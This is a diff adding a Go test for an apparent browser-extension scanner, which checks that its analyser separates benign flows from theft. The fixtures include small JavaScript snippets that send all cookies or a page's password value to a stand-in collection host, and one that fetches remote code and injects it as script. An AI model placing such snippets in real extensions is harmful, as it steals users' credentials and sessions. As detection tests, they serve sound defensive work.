@@ -1,0 +1,60 @@
+package behavior
+
+import (
+	"slices"
+	"strings"
+	"testing"
+	"testing/fstest"
+
+	"github.com/extwatch/extwatch/manifests"
+)
+
+// What looks like a theft and is none, each beside the theft that it must not hide.
+func TestHonestShapes(t *testing.T) {
+	const popup = `{"manifest_version": 3, "name": "x", "version": "1", "permissions": ["storage", "cookies"], "host_permissions": ["<all_urls>"],
+		"background": {"service_worker": "bg.js"}, "options_page": "o.html",
+		"content_scripts": [{"matches": ["https://shop.example/*"], "js": ["c.js"]}]}`
+	cookies := func(body string) string {
+		return `chrome.runtime.onMessage.addListener((d) => { const x = new XMLHttpRequest(); x.open("GET", d.url); ` + body + ` });`
+	}
+	const page = `<input id="KEY" type="password"><script src="o.js"></script>`
+	const keep = `const i = document.getElementById("KEY"); i.type = "password"; chrome.storage.local.set({key: i.value})`
+	const send = `chrome.storage.local.get("key", (r) => fetch("https://api.translate.example/v1", {headers: {Authorization: r.key}}))`
+	for _, c := range []struct {
+		name, source, sink string
+		found              bool
+		files              map[string]string
+	}{
+		{"cookies home", "cookies", "xhr", false, map[string]string{"bg.js": cookies(`chrome.cookies.getAll({url: d.url}, (l) => { x.setRequestHeader("cookie", l[0].value); x.send() })`)}},
+		{"all cookies", "cookies", "xhr", true, map[string]string{"bg.js": cookies(`chrome.cookies.getAll({}, (l) => { x.setRequestHeader("cookie", l[0].value); x.send() })`)}},
+		{"cookies of another address", "cookies", "xhr", true, map[string]string{"bg.js": cookies(`chrome.cookies.getAll({url: d.of}, (l) => x.send(l[0].value))`)}},
+		{"the address is changed", "cookies", "xhr", true, map[string]string{"bg.js": cookies(`chrome.cookies.getAll({url: d.url}, (l) => { d.url = d.to; x.open("POST", d.url); x.send(l[0].value) })`)}},
+		{"key of a service", "password_field", "fetch", false, map[string]string{"o.html": page, "o.js": keep, "bg.js": send}},
+		{"a value that the page holds", "form_data", "fetch", false, map[string]string{"c.js": `fetch("https://collect.example/?" + document.getElementsByTagName("input")[0].getAttribute("value"))`}},
+		{"a password that the page holds", "password_field", "fetch", true, map[string]string{"c.js": `fetch("https://collect.example/?" + document.querySelector("input[type=password]").getAttribute("value"))`}},
+		{"a site's answer in its pages", "network", "script_text", false, map[string]string{"c.js": `fetch("https://www.shop.example/a").then(r => r.text()).then(t => { const s = document.createElement("script"); s.textContent = t })`}},
+		{"a stranger's answer", "network", "script_text", true, map[string]string{"c.js": `fetch("https://cdn.example/a").then(r => r.text()).then(t => { const s = document.createElement("script"); s.textContent = t })`}},
+		{"in elements", "cookies", "fetch", true, map[string]string{"bg.js": `import x from "./x.js"; const a = <b class="c">text</b>; chrome.cookies.getAll({}, c => fetch("https://collect.example/", {body: JSON.stringify(c)}))`}},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			for i, key := range []string{"apiKey", "walletPassword"} {
+				if i > 0 && c.name != "key of a service" {
+					break
+				}
+				files := fstest.MapFS{"manifest.json": {Data: []byte(popup)}}
+				for name, text := range c.files {
+					files[name] = &fstest.MapFile{Data: []byte(strings.ReplaceAll(text, "KEY", key))}
+				}
+				m, err := manifests.Parse([]byte(popup))
+				if err != nil {
+					t.Fatal(err)
+				}
+				r := Analyze(t.Context(), Input{Manifest: m, Files: files})
+				found := slices.ContainsFunc(r.Flows, func(f Flow) bool { return f.Source == c.source && f.Sink == c.sink })
+				if want := c.found || i > 0; found != want {
+					t.Errorf("%s: %s -> %s: %v, want %v; flows %v, problems %v", key, c.source, c.sink, found, want, r.Flows, r.Problems)
+				}
+			}
+		})
+	}
+}
